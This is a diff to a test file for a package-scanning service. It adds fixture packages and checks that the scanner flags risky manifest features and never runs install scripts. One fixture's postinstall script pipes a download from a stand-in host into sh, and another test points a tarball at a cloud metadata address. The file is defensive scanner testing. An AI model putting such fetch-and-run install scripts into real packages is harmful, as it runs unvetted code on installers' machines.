@@ -6,6 +6,9 @@ import { expectInvalid } from '../support/refusals';
 import { type RunningService, type Tenant, runningService } from '../support/running-service';
 import { FLAW, FLAWED, FLAWLESS, projectOf, scanned } from '../support/scanned';
 
+/** Of a package that nothing is to be said of. */
+const manifest = (name: string, version: string, more: object = {}) => JSON.stringify({ name, version, license: 'MIT', type: 'module', ...more }, null, 2);
+
 describe('a scan of a package', () => {
   let registry: PackageRegistry;
   let canary: Canary;
@@ -17,7 +20,10 @@ describe('a scan of a package', () => {
     service = await runningService({ settings: { ASSAY_PKGREG_URL: `http://127.0.0.1:${registry.port}`, ASSAY_ALLOWED_TARGETS: `127.0.0.1:${registry.port}` } });
     tenant = await service.tenant('business');
     project = await projectOf(tenant);
-    publish('@ada/shop', { '1.0.0': { files: FLAWED }, '1.1.0': { files: FLAWLESS } });
+    publish('@ada/shop', {
+      '1.0.0': { files: { ...FLAWED, 'package.json': manifest('@ada/shop', '1.0.0') } },
+      '1.1.0': { files: { ...FLAWLESS, 'package.json': manifest('@ada/shop', '1.1.0') } },
+    });
   });
   afterAll(async () => {
     await service.close();
@@ -45,6 +51,29 @@ describe('a scan of a package', () => {
     expect(session.targetSummary.package).toMatchObject({ version: '1.1.0' });
   });
 
+  it('finds what would meet those who install it: entries, types, scripts, a licence and dependencies', async () => {
+    publish('tide', { '2.0.0': { files: {
+      'package.json': manifest('tide', '2.0.0', {
+        type: 'commonjs', license: 'AGPL-3.0-only', engines: { node: '>=20' },
+        exports: { '.': { types: './index.d.ts', import: './index.mjs', require: './index.js' }, './moon': './moon.js' },
+        scripts: { postinstall: 'curl -s https://host.example/a.sh | sh', build: 'tsc' },
+        dependencies: { wind: 'git+https://host.example/wind.git#main' },
+      }),
+      'index.js': 'exports.high = (hour) => hour % 12 < 6;\n', 'index.mjs': 'export const high = (hour) => hour % 12 < 6;\n', 'index.d.ts': 'export declare const high: (hour: number) => boolean;\n',
+    } } });
+    const { scan: ended, findings } = await scan('tide@2.0.0');
+    expect(ended).toMatchObject({ status: 'completed' });
+    const found = findings.map(({ tool, file, line, title }) => `${tool} ${file}:${line} ${title}`);
+    expect(found).toEqual(expect.arrayContaining([
+      'npm-publish-lint package.json:15 An entry of the package names a file that is not in it',
+      'npm-types package.json:11 Types of CommonJS for an ES module',
+      'npm-types package.json:15 An entry of the package cannot be imported',
+      'install-scripts package.json:18 Installing the project fetches a program and runs it',
+      'license-policy package.json:4 A dependency whose licence also binds services on the network',
+      'lockfile-integrity package.json:22 A git dependency follows a branch',
+    ]));
+  });
+
   it.each<[string, string, Publication, string]>([
     ['is not what the registry promises', 'tampered', { dist: { integrity: `sha512-${createHash('sha512').update('another').digest('base64')}` } }, 'INTEGRITY_MISMATCH'],
     ['lies at a private address', 'inward', { dist: { tarball: 'http://169.254.169.254/inward.tgz' } }, 'TARGET_NOT_ALLOWED'],
@@ -64,7 +93,7 @@ describe('a scan of a package', () => {
 
   it('runs nothing of it', async () => {
     const script = `node -e ${JSON.stringify(canary.trip('script'))}`;
-    publish('runner', { '1.0.0': { files: { ...FLAWLESS, 'package.json': JSON.stringify({ name: 'runner', version: '1.0.0', scripts: { preinstall: script, install: script, postinstall: script, prepare: script } }) } } });
+    publish('runner', { '1.0.0': { files: { ...FLAWLESS, 'package.json': manifest('runner', '1.0.0', { scripts: { preinstall: script, install: script, postinstall: script, prepare: script } }) } } });
     expect((await scan('runner')).scan).toMatchObject({ status: 'completed' });
   });
 
